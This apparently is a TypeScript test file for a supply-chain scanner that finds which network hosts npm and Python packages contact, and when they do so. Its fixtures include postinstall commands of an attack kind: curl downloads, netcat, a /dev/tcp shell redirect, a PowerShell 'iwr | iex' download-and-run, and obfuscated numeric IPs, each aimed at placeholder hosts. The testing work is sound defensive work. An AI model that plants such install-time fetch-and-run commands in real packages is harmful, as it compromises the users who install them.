import t from 'tap'
import { LIMITS } from '../../src/analysis/limits.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { readAsOf, type ArtifactKind } from '../../src/model/artifact.ts'
import { hostNameOf } from '../../src/model/host-name.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { HostsFact } from '../../src/model/fact.ts'
import { packedReading } from '../checks/python-reading.ts'
import { sampleArtifact } from '../checks/sample-artifact.ts'

type Files = Readonly<Record<string, string>>

async function hostsOf(kind: ArtifactKind, files: Files): Promise<HostsFact> {
  const facts = await inspect(await packedReading(kind, files), {
    digest: sha256('x'),
    readAs: readAsOf(sampleArtifact(kind)),
  })
  return facts.hosts ?? { named: [], isWhole: false }
}

const PACKAGE = JSON.stringify({ name: 'sample', version: '1.0.0', main: 'index.js' })
const WITH_SCRIPT = (postinstall: string): Files => ({
  'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', scripts: { postinstall } }),
})

interface Case {
  readonly situation: string
  readonly kind?: ArtifactKind
  readonly files: Files
  readonly named: readonly string[]
}

const CASES: readonly Case[] = [
  {
    situation: 'a request when imported, one in a function, and one in a file that nothing loads',
    files: {
      'package.json': PACKAGE,
      'index.js': `fetch('https://A.example:8443/x')\nexports.get = () =>\n  fetch('https://b.example/' + process.argv[2])`,
      'tool.js': `require('https').get({ hostname: 'c.example', path: '/' })`,
    },
    named: ['a.example import index.js:1', 'b.example call index.js:3', 'c.example call tool.js:1'],
  },
  {
    situation: 'a name that is put together of constants, and one whose beginning is not known',
    files: {
      'package.json': PACKAGE,
      'index.js': `const p = ['d', 'example']\nfetch('https://' + p.join('.') + '/')\nfetch(\`https://\${process.env.ZONE}.e.example/\`)`,
    },
    named: ['*.e.example import index.js:3', 'd.example import index.js:2'],
  },
  {
    situation: 'the same host at two moments, and twice at one',
    files: {
      'package.json': JSON.stringify({
        name: 'sample',
        version: '1.0.0',
        main: 'index.js',
        scripts: { postinstall: 'node install.js' },
      }),
      'install.js': `fetch('https://a.example/1')\nfetch('https://a.example/2')`,
      'index.js': `fetch('https://a.example/')`,
    },
    named: ['a.example install install.js:1', 'a.example import index.js:1'],
  },
  {
    situation: 'commands at install, and none of the machine itself',
    files: WITH_SCRIPT(
      'curl -fsSL https://a.example/i.sh -o i.sh && wget http://127.0.0.1/x http://localhost:1/ && nc b.example 443',
    ),
    named: ['a.example install package.json:1', 'b.example install package.json:1'],
  },
  {
    situation: 'a repository, a connection of the shell, and an address as one number',
    files: WITH_SCRIPT('git clone https://c.example/x/y.git; echo x > /dev/tcp/d.example/80; curl http://3405803783/x'),
    named: [
      '203.0.113.7 install package.json:1',
      'c.example install package.json:1',
      'd.example install package.json:1',
    ],
  },
  {
    situation: 'PowerShell, and code on a command line',
    files: WITH_SCRIPT(
      `powershell -c "iwr https://a.example/x.ps1 | iex"; node -e "require('https').get('https://b.example/')"`,
    ),
    named: ['a.example install package.json:1', 'b.example install package.json:1'],
  },
  {
    situation: 'a setup.py, a module and its function',
    kind: 'sdist',
    files: {
      'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
      'setup.py': `import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://a.example/')\nsetup(name='sample', packages=['sample'])`,
      'sample/__init__.py': `import requests\nrequests.get('https://b.example/')\ndef later():\n    requests.post('https://c.example/', data='x')`,
    },
    named: [
      'a.example build setup.py:3',
      'b.example import sample/__init__.py:2',
      'c.example call sample/__init__.py:4',
    ],
  },
  {
    situation: 'an address in a remark, in a text, and as a link that nobody asks for',
    files: { 'package.json': PACKAGE, 'index.js': `// see https://a.example/\nexports.url = 'https://b.example/'` },
    named: [],
  },
]

t.test('hosts that code names are facts, with when and where', async (t) => {
  for (const { situation, kind = 'npm-tarball', files, named } of CASES) {
    const hosts = await hostsOf(kind, files)
    const found = hosts.named.map(({ name, moment, path, line }) => `${name} ${moment} ${path}:${line}`)
    t.same(found, named, situation)
    t.ok(hosts.isWhole, situation)
  }
})

/** As many hosts as wanted, a few in each file. */
function manyHosts(count: number): Files {
  const files: Record<string, string> = { 'package.json': PACKAGE, 'index.js': '' }
  for (let first = 0; first < count; first += 10) {
    const named = Array.from(
      { length: Math.min(10, count - first) },
      (_, n) => `fetch('https://h${first + n}.example/')`,
    )
    files[`lib/${first}.js`] = named.join('\n')
    files['index.js'] += `require('./lib/${first}.js')\n`
  }
  return files
}

t.test('as many hosts as are kept, and one more', async (t) => {
  const whole = await hostsOf('npm-tarball', manyHosts(LIMITS.hosts))
  t.match(whole, { named: { length: LIMITS.hosts }, isWhole: true })
  const cut = await hostsOf('npm-tarball', manyHosts(LIMITS.hosts + 1))
  t.match(cut, { named: { length: LIMITS.hosts }, isWhole: false })
})

t.test('what runs first is kept where there are too many', async (t) => {
  const files = manyHosts(LIMITS.hosts + 5)
  const manifest = JSON.stringify({ ...JSON.parse(PACKAGE), scripts: { postinstall: 'curl https://zz.example/' } })
  const { named } = await hostsOf('npm-tarball', { ...files, 'package.json': manifest })
  t.match(named[0], { name: 'zz.example', moment: 'install' })
})

const calls = (count: number): string =>
  Array.from({ length: count }, (_, n) => `fetch('https://h${n}.example/')`).join('\n')

const ofCalls = async (count: number): Promise<HostsFact> =>
  hostsOf('npm-tarball', { 'package.json': PACKAGE, 'index.js': calls(count) })

t.test('a file with more places than are kept may name others', async (t) => {
  t.match(await ofCalls(LIMITS.placesPerCapability - 1), { isWhole: true })
  t.match(await ofCalls(LIMITS.placesPerCapability + 1), { isWhole: false })
})

const HOLE = '\uE000'

const NAMES: readonly (readonly [text: string, name: string | undefined])[] = [
  ['https://a.example', 'a.example'],
  ['HTTPS://me:secret@A.Example.:8443/path?x=https://b.example#y', 'a.example'],
  ['wss://a.example/socket', 'a.example'],
  ['a.example:443', 'a.example'],
  ['a.example', 'a.example'],
  ['https://bücher.example/', 'xn--bcher-kva.example'],
  ['http://[2001:db8::1]:8080/', '[2001:db8::1]'],
  ['http://0xcb007107/', '203.0.113.7'],
  ['169.254.169.254', '169.254.169.254'],
  [`https://${HOLE}.a.example/x`, '*.a.example'],
  [`https://x-${HOLE}.b.${HOLE}.a.example/x`, '*.a.example'],
  [`https://a.example${HOLE}`, 'a.example'],
  [`https://a.example/${HOLE}`, 'a.example'],
  [`https://a.example:${HOLE}/`, 'a.example'],
  [`https://${HOLE}`, undefined],
  [`https://${HOLE}.example/`, undefined],
  [`https://${HOLE}x.example/`, undefined],
  ['http://localhost:3000/', undefined],
  ['http://127.0.0.1/', undefined],
  ['http://2130706433/', undefined],
  ['http://[::1]/', undefined],
  ['https://redis/', undefined],
  ['http://a b.example/', undefined],
  ['/etc/passwd', undefined],
  ['', undefined],
  [`https://${'a'.repeat(64)}.example/`, undefined],
  [`https://${'a.'.repeat(4000)}example/`, undefined],
]

t.test('the host of what code gives to a client', async (t) => {
  for (const [text, name] of NAMES) t.equal(hostNameOf(text), name, JSON.stringify(text.slice(0, 60)))
})
